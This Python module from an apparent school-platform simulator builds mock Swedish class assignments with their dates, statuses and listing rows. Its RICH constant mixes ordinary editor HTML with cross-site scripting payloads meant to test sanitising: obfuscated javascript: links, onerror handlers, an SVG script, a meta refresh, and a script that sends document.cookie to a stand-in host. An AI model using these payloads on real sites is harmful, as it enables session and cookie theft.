"""Assignments of a class: three begin in every week of term and last for a week or two.

The id of an assignment is built from the number of its class, the week in which it begins
(counted from `_EPOCH`), and its index in that week. The first is a test, the second is handed
in, the third is homework with few details.
"""

from dataclasses import dataclass
from datetime import date, datetime, time, timedelta
from typing import Any

from upstream.simulator import dates
from upstream.simulator.classes import SchoolClass
from upstream.simulator.dates import EMPTY_WEEKS
from upstream.simulator.state import State
from upstream.simulator.subject_rooms.data import room_id, subject_of

_EPOCH = date(2015, 1, 5)
_WEEKS = 10_000
PER_WEEK = 3
_ROOMS = 10
"""Only the first rooms have assignments."""
_WEEKS_BACK, _WEEKS_AHEAD = 14, 2
"""How many past and future weeks a subject room shows; its dated entries last until the end of
the year, as teachers write them long before."""
_KINDS = ("Prov", "Inlämningsuppgift", "Läxa")
_TITLES = (
    ("Prov kap {n}", "Muntligt förhör – del {n}", "Läxförhör {n} & repetition"),
    ("Labbrapport {n}", "Uppsats: ”Min plats”, utkast {n}", "Projekt {n} (grupp)"),
    ("Läs s. {n}–{m}", "Glosor v {n}", "Öva på  uppgift {n}"),
)
_TEACHER = "Torbjörn Ekvik"


@dataclass(frozen=True, slots=True)
class Assignment:
    """One assignment. `week` counts from `_EPOCH`, `index` is 0, 1 or 2."""

    school_class: SchoolClass
    week: int
    index: int

    @property
    def id(self) -> int:
        return (self.school_class.number * _WEEKS + self.week) * 10 + self.index

    @property
    def room(self) -> int:
        """The index of its room."""
        return (self.week * PER_WEEK + self.index) % _ROOMS

    @property
    def start(self) -> datetime:
        monday = _EPOCH + timedelta(weeks=self.week)
        return datetime.combine(monday + timedelta(days=self.index), time())

    @property
    def due(self) -> datetime:
        return self.start + timedelta(days=6 + 2 * (self.week % 4), hours=8, minutes=20)

    @property
    def kind(self) -> str:
        return _KINDS[self.index]

    @property
    def subject(self) -> str:
        return subject_of(self.room)

    @property
    def title(self) -> str:
        chapter = self.week % 9 + 1
        title = _TITLES[self.index][self.week % 3]
        return title.format(n=chapter, m=chapter + 7)

    @property
    def published(self) -> datetime:
        return self.start - timedelta(days=1) + timedelta(hours=14, minutes=5)

    @property
    def teaser(self) -> str:
        """`subTitle`: usually dates, kind and subject."""
        if self.index == 2 and self.week % 5 == 0:
            return ""
        if self.index == 2 and self.week % 2:
            return f"Hand-in due {dates.short(self.due)}, {self.kind}, {self.subject}"
        span = f"{dates.short(self.start)} - {dates.short(self.due)}"
        return f"{span}, {self.kind}, {self.subject}"

    def status(self, today: date) -> str:
        if self.start.date() > today:
            return "UPCOMING"
        return "EXPIRED" if self.due.date() < today else ("ONGOING", "ACTIVE")[self.index % 2]

    def is_over(self, today: date) -> bool:
        return self.due.date() < today

    def handed_in(self, today: date) -> str:
        """`submissionStatus`."""
        if self.index != 1:
            return "NO_STATUS"
        over = ("EXPIRED_SUBMITTED", "EXPIRED_NOT_SUBMITTED", "LATE", "FINISHED")
        running = ("NOT_SUBMITTED", "SUBMITTED")
        return over[self.week % 4] if self.is_over(today) else running[self.week % 2]

    def reported(self, today: date) -> str | None:
        """`resultReportStatus`."""
        if self.index == 2:
            return None if self.week % 2 else "NO_STATUS"
        return ("REPORTED", "PUBLISHED")[self.index] if self.is_over(today) else "NOT_REPORTED"

    def row(self, today: date) -> dict[str, Any]:
        """The row of a week's list."""
        return {
            "id": self.id,
            "activityId": room_id(self.school_class, self.room),
            "title": self.title,
            "subTitle": self.teaser,
            "read": self.is_over(today),
            "submissionStatus": self.handed_in(today),
            "resultReportStatus": self.reported(today),
            "sortDate": dates.row(self.due),
        }

    def grid_row(self, today: date) -> dict[str, Any]:
        """The row of a room's grid."""
        return {
            "assignmentId": self.id,
            "activityId": room_id(self.school_class, self.room),
            "title": self.title,
            "assignmentType": self.kind,
            "subjects": [{"name": self.subject, "color": "#9fe2a0"}],
            "teacher": _TEACHER,
            "startDate": dates.row(self.start),
            "endDate": dates.row(self.due),
            "publishDate": dates.row(self.published),
            "submissionDate": "",
            "submissionStatus": self.handed_in(today),
            "resultReportStatus": self.reported(today),
            "status": self.status(today),
            "read": self.is_over(today),
        }


def week_number(monday: date) -> int:
    """Weeks since `_EPOCH`."""
    return (monday - _EPOCH).days // 7


def beginning_in(school_class: SchoolClass, week: int) -> list[Assignment]:
    """The assignments that begin in this week; none in the middle of the summer."""
    monday = _EPOCH + timedelta(weeks=week)
    if not 0 <= week < _WEEKS or monday.isocalendar().week in EMPTY_WEEKS:
        return []
    return [Assignment(school_class, week, index) for index in range(PER_WEEK)]


def of_week(school_class: SchoolClass, monday: date) -> list[Assignment]:
    """Every assignment that overlaps this week."""
    this = week_number(monday)
    return [
        assignment
        for week in range(this - 2, this + 1)
        for assignment in beginning_in(school_class, week)
        if assignment.due.date() >= monday
    ]


def of_room(
    school_class: SchoolClass, index: int, today: date, *, whole_year: bool = False
) -> list[Assignment]:
    """The assignments that a room shows: of the last weeks and the next ones, oldest first.
    `whole_year`: of all weeks until the end of the ISO year."""
    this = last = week_number(today)
    last += _WEEKS_AHEAD
    if whole_year:
        last = week_number(date(today.isocalendar().year, 12, 28))
    return [
        assignment
        for week in range(this - _WEEKS_BACK, last + 1)
        for assignment in beginning_in(school_class, week)
        if assignment.room == index
    ]


def class_number(assignment_id: int) -> int:
    """The number of the class that an assignment with this id belongs to."""
    return assignment_id // (_WEEKS * 10)


def find(school_class: SchoolClass, assignment_id: int) -> Assignment | None:
    """The assignment of this class with this id."""
    week, index = divmod(assignment_id % (_WEEKS * 10), 10)
    for assignment in beginning_in(school_class, week):
        if assignment.index == index and assignment.id == assignment_id:
            return assignment
    return None


PLAIN = "L&auml;s kapitel 4.\r\nSvara p&aring; fr&aring;gorna."

# HTML that an editor produces, and attacks that have to be removed.
RICH = """<p class="tinymce-p">R&auml;kna sid 84&ndash;91.&nbsp;</p>
<ul><li>Ta med linjal</li><li><strong>Inte</strong> mobil</li></ul>
<table class="table"><tbody><tr><th rowspan="2">Niv&aring;</th><th colspan="2">Po&auml;ng</th></tr>
<tr><th>Prov</th><th>L&auml;xa</th></tr>
<tr><td>E</td><td>10&nbsp;p</td><td>4&nbsp;p</td></tr></tbody></table>
<ol start="3"><li>Tredje uppgiften</li></ol>
<p><video controls="controls"><source src="/bjorkdalen/files/film.mp4"></video>
<iframe title="Br&aring;k" src="https://film.example/embed/4" allowfullscreen></iframe></p>
<p><a href="right_student_planning.jsp?requestid=7&type=1">Planering</a>
<a href="/bjorkdalen/jsp/student/right_student_library.jsp">Bibliotek</a>
<a href="https://larande.example/ma?kap=4&amp;del=2" target="_blank">L&auml;nk</a>
<a href="JaVa&#9;ScRiPt:alert(document.cookie)">Facit</a>
<a href=" javascript&colon;alert(1)">Mer</a>
<a href="data:text/html,<script>alert(1)</script>">Data</a></p>
<img src="showFileImage.jsp?fileid=7741&type=2" alt="Figur" onerror="alert(1)">
<img src=x onerror=alert(1)//>
<script>document.location="https://elsewhere.example/?"+document.cookie</script>
<svg><script>alert(1)</script></svg>
<iframe src="https://elsewhere.example/"></iframe>
<p style="background:url(javascript:alert(1))" onclick="alert(1)">Lycka till &#128077;!</p>
<meta http-equiv="refresh" content="0;url=https://elsewhere.example/"><p>Ej st&auml;ngd"""


def description_of(assignment: Assignment, state: State) -> str | None:
    """By default rich for a test, plain for a submission, None for homework."""
    forms = {"script": RICH, "plain": PLAIN, "null": None}
    variant = state.settings.descriptions
    return forms[("script", "plain", "null")[assignment.index] if variant == "mixed" else variant]
